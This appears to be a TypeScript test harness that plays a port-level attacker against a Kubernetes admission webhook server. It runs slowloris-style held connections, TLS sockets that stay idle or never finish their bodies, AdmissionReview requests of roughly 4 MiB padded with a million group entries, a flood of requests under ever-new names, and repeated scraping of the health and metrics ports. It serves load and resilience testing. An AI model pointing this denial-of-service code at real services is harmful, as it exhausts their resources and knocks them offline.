// What somebody does who reaches the server's ports and nothing else, in a process of its own: `attacker.ts JSON` with an `Attack`.
// It goes on until it is killed, and prints a line with what it has done so far every second.
import { Agent, get as httpGet } from 'node:http';
import { request } from 'node:https';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';

export interface Attack {
  readonly host: string;
  readonly webhooks: number;
  readonly health: number;
  readonly metrics: number;
  /** Of a webhook, whatever an attacker would have to find out to know it included. */
  readonly path: string;
  /** Addresses that it comes from. */
  readonly sources: readonly string[];
  /** To the webhooks, over all sources. */
  readonly connections: number;
}

const attack = JSON.parse(process.argv[2] ?? '') as Attack;
const { host, sources } = attack;
/** Milliseconds until a connection that was closed is opened again. */
const againMs = 50;
const done = { opened: 0, closed: 0, dear: 0, cheap: 0, scrapes: 0, refused: 0 };

const head = `POST ${attack.path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n`;
const review = (userInfo: object, name: string): string =>
  JSON.stringify({
    apiVersion: 'admission.k8s.io/v1',
    kind: 'AdmissionReview',
    request: {
      uid: '7f0c1a52-3b77-4d5e-8b52-0d3a2f0e9c11',
      kind: { group: 'crds.wizardofoz.co', version: 'v1alpha1', kind: 'PodAccessRequest' },
      resource: { group: 'crds.wizardofoz.co', version: 'v1alpha1', resource: 'podaccessrequests' },
      name,
      namespace: name,
      operation: 'CREATE',
      userInfo,
      object: {
        apiVersion: 'crds.wizardofoz.co/v1alpha1',
        kind: 'PodAccessRequest',
        metadata: { name },
        spec: { templateName: name },
      },
    },
  });
/** Nearly 4 MiB of it are groups. */
const dear = review({ username: 'eve', groups: Array.from({ length: 1_000_000 }, () => '') }, 'dear');

const keepOpen = (open: (again: () => void) => Socket): void => {
  const socket = open(() => setTimeout(() => keepOpen(open), againMs));
  done.opened++;
  socket.on('error', () => {});
  socket.resume();
  socket.once('close', () => {
    done.closed++;
    setTimeout(() => keepOpen(open), againMs);
  });
};
const tls = (localAddress: string, then: (socket: Socket) => void): Socket => {
  const below = connectTcp({ host, port: attack.webhooks, localAddress });
  const socket = connectTls({ socket: below, rejectUnauthorized: false });
  socket.once('secureConnect', () => then(socket));
  return socket;
};
const post = (localAddress: string, body: () => string, count: 'dear' | 'cheap'): void => {
  const again = (): void => void setTimeout(() => post(localAddress, body, count), againMs);
  const text = body();
  const call = request(
    {
      host,
      port: attack.webhooks,
      path: attack.path,
      method: 'POST',
      localAddress,
      rejectUnauthorized: false,
      headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(text) },
    },
    (answer) => {
      done[answer.statusCode === 200 ? count : 'refused']++;
      answer.resume();
      answer.once('close', again);
    },
  );
  call.once('error', again);
  call.end(text);
};

let names = 0;
/** Of 16 connections: silent before TLS, silent after it, bodies that never end, dear reviews, cheap ones with ever other names. */
const roles = [...Array(7).fill('silent'), ...Array(3).fill('idle'), ...Array(3).fill('body'), 'dear', 'dear', 'cheap'];
for (let index = 0; index < attack.connections; index++) {
  const localAddress = sources[index % sources.length] ?? host;
  const role = roles[Math.floor(index / sources.length) % roles.length];
  if (role === 'silent') keepOpen(() => connectTcp({ host, port: attack.webhooks, localAddress }));
  if (role === 'idle') keepOpen(() => tls(localAddress, () => {}));
  if (role === 'body') {
    keepOpen(() =>
      tls(localAddress, (socket) => socket.write(`${head}Content-Length: 4000000\r\n\r\n${dear.slice(0, 3_900_000)}`)),
    );
  }
  if (role === 'dear') post(localAddress, () => dear, 'dear');
  if (role === 'cheap')
    post(localAddress, () => review({ username: `eve-${names}`, groups: ['devs'] }, `n-${names++}`), 'cheap');
}
for (const localAddress of sources) {
  for (let n = 0; n < 32; n++) keepOpen(() => connectTcp({ host, port: attack.health, localAddress }));
  const agent = new Agent({ keepAlive: true, localAddress });
  const scrape = (): void => {
    const call = httpGet({ host, port: attack.metrics, path: '/metrics', agent, localAddress }, (answer) => {
      done.scrapes++;
      answer.resume();
      answer.once('close', () => setTimeout(scrape, againMs));
    });
    call.once('error', () => setTimeout(scrape, againMs));
  };
  scrape();
}
setInterval(() => console.log(JSON.stringify(done)), 1000);
